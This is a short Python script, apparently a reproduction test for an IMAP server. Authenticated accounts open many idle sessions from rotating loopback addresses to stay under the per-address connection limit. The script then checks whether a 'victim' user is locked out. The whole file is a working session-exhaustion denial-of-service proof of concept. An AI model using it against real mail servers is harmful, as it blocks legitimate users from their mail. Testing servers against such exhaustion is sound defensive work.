#!/usr/bin/env python3
"""02-session-exhaustion.py PORT N USER... - the users (password
"pw-" + local part) open N idle sessions in all, in turn, from 127.0.0.2,
.3, ... (at most 19 per address, under
imapd_client_connection_count_limit), then victim@ tries to log in from
127.0.0.1.  Prints "victim: <reply>" and exits 1 when the victim is
refused or gets no answer (the attacker holds every imapd-session)."""
import socket
import sys
import time

port, n, users = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3:]
held = []
for i in range(n):
    src = "127.0.0.%d" % (2 + i // 19)
    s = socket.socket()
    s.settimeout(20)
    s.bind((src, 0))
    s.connect(("127.0.0.1", port))
    f = s.makefile("rb")
    f.readline()
    u = users[i % len(users)]
    s.sendall(b"a LOGIN %s pw-%s\r\nb IDLE\r\n" % (u.encode(), u.split("@")[0].encode()))
    ok = f.readline()
    held.append((s, f))
    if not ok.startswith(b"a OK"):
        print("session %d of %s from %s: %r" % (i, u, src, ok))
        break
print("%s hold %d sessions" % (" and ".join(users), len(held)))
time.sleep(1)
v = socket.create_connection(("127.0.0.1", port), timeout=15)
vf = v.makefile("rb")
vf.readline()
v.sendall(b"a LOGIN victim@localhost pw-victim\r\n")
try:
    reply = vf.readline()
except socket.timeout:
    reply = b"(no answer in 15 s)"
print("victim: %s" % reply.decode("latin-1").strip())
sys.exit(0 if reply.startswith(b"a OK") else 1)
